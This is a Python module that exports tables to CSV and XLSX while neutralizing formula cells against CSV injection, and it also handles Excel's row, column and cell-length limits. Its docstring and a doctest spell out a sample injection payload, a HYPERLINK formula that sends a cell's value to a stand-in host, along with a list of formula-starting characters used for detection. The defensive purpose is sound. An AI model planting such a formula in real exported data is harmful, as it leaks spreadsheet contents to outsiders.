"""Write a table for spreadsheets safely: no cell a spreadsheet runs as a formula, no row lost to a sheet's limit.

CSV cells that begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a leading
apostrophe, as OWASP recommends against CSV injection ("CSV Injection", owasp.org): Excel and
LibreOffice would otherwise run ``=HYPERLINK("http://…"&A1,"click")`` from a document's title. A cell
that is a plain number (``-3.5``, ``+2%``) is left alone: a spreadsheet reads it as that number.
XLSX cells are written as text (never formulas or links), and a table longer than a sheet's
1,048,576 rows continues on further sheets (``indicators``, ``indicators (2)``…), with a warning,
instead of being cut. Every file is written to a temporary name and renamed into place.
"""

from __future__ import annotations

import csv
import logging
import re
from pathlib import Path

import pandas as pd

from helpers.atomic import write_atomically

logger = logging.getLogger(__name__)

# What a spreadsheet takes for the start of a formula (OWASP's list)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A cell that is only a number is data, not a formula: "-3.5", "+2%", "-1.2e5"
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
XLSX_MAX_ROWS = 1_048_576  # rows of one Excel sheet, the header included
XLSX_MAX_COLUMNS = 16_384
XLSX_MAX_CELL_CHARS = 32_767
CUT_MARK = "…[cut: the cell passed Excel's 32,767 characters; the CSV has the whole text]"
# Text stays text: a sentence that begins with "=" or holds a web address is evidence, not a formula or
# a link. Dates are real dates (Excel sorts and filters them), shown as 2023-10-18.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "default_date_format": "yyyy-mm-dd",
                "nan_inf_to_errors": True}


def neutralize_cell(value):
    """The value with a leading apostrophe if a spreadsheet would take it for a formula.

    >>> neutralize_cell('=HYPERLINK("http://example.com/?"&A1,"click")')
    '\\'=HYPERLINK("http://example.com/?"&A1,"click")'
    >>> neutralize_cell("-3.5%"), neutralize_cell("辽阳市"), neutralize_cell(-2)
    ('-3.5%', '辽阳市', -2)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralize_frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of the table with every text cell (and column name) passed through :func:`neutralize_cell`."""
    table = table.copy()
    for column in table.columns:
        if isinstance(table[column].dtype, pd.CategoricalDtype):  # categories are text too (a panel's codes)
            table[column] = table[column].astype(object)
        if table[column].dtype == object or pd.api.types.is_string_dtype(table[column]):
            table[column] = table[column].map(neutralize_cell)
    table.columns = [neutralize_cell(str(column)) for column in table.columns]
    return table


def write_csv(table: pd.DataFrame, path: str | Path) -> Path:
    """The table as CSV, UTF-8 with a BOM (so Excel shows the Chinese), formulas neutralized, atomically."""
    safe = neutralize_frame(table)
    return write_atomically(Path(path), lambda temporary: safe.to_csv(
        temporary, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_MINIMAL))


def split_rows(n_rows: int, max_rows: int = XLSX_MAX_ROWS) -> list[tuple[int, int]]:
    """(start, stop) of the data rows on each sheet, a header row on every sheet.

    >>> split_rows(5, max_rows=3)
    [(0, 2), (2, 4), (4, 5)]
    >>> split_rows(0)
    [(0, 0)]
    """
    per_sheet = max_rows - 1
    return [(start, min(start + per_sheet, n_rows)) for start in range(0, n_rows, per_sheet)] or [(0, 0)]


def name_sheets(sheet: str, n: int) -> list[str]:
    """``sheet``, ``sheet (2)``… within Excel's 31 characters.

    >>> name_sheets("indicators", 2)
    ['indicators', 'indicators (2)']
    """
    return [sheet[:31] if i == 0 else f"{sheet[:31 - len(f' ({i + 1})')]} ({i + 1})" for i in range(n)]


def write_xlsx(table: pd.DataFrame, path: str | Path, sheet: str, max_rows: int = XLSX_MAX_ROWS) -> Path:
    """The table in an XLSX workbook, atomically: each sheet with a frozen, filterable header row.

    A table longer than a sheet continues on the next (a warning says how many sheets); one wider than
    a sheet is refused with a ValueError. Text is written as text, never as a formula or a link; a
    cell longer than Excel allows is cut with a visible mark, and a warning counts them.
    """
    if len(table.columns) > XLSX_MAX_COLUMNS:
        raise ValueError(f"{path}: {len(table.columns)} columns do not fit an Excel sheet "
                         f"({XLSX_MAX_COLUMNS} at most); export fewer columns or use the CSV")
    parts = split_rows(len(table), max_rows)
    if len(parts) > 1:
        logger.warning("%s: %d rows do not fit one Excel sheet (%d rows): written on %d sheets, %s",
                       path, len(table), max_rows, len(parts), ", ".join(name_sheets(sheet, len(parts))))
    return write_atomically(Path(path), lambda temporary: _write_workbook(table, temporary, sheet, parts))


def _write_workbook(table: pd.DataFrame, path: str, sheet: str, parts: list[tuple[int, int]]) -> None:
    """Rows written with xlsxwriter directly: pandas' ``to_excel`` formats every cell through its own
    layer first (0.17-0.3 s for the corpus's indicators, against 0.08 s here)."""
    import xlsxwriter

    header = [str(column) for column in table.columns]
    cells = table.astype(object).where(table.notna(), None)  # numpy scalars become Python ones
    n_cut = 0
    with xlsxwriter.Workbook(path, {**XLSX_OPTIONS, "constant_memory": len(table) > 100_000}) as book:
        for name, (start, stop) in zip(name_sheets(sheet, len(parts)), parts):
            worksheet = book.add_worksheet(name)
            worksheet.write_row(0, 0, header)
            for row, values in enumerate(cells.iloc[start:stop].itertuples(index=False, name=None), start=1):
                if any(isinstance(v, str) and len(v) > XLSX_MAX_CELL_CHARS for v in values):
                    n_cut += 1
                    values = [v[:XLSX_MAX_CELL_CHARS - len(CUT_MARK)] + CUT_MARK
                              if isinstance(v, str) and len(v) > XLSX_MAX_CELL_CHARS else v for v in values]
                worksheet.write_row(row, 0, values)
            worksheet.freeze_panes(1, 0)
            worksheet.autofilter(0, 0, stop - start, max(len(header) - 1, 0))
    if n_cut:
        logger.warning("%s: %d rows have a cell longer than Excel's %d characters, cut with a mark",
                       path, n_cut, XLSX_MAX_CELL_CHARS)

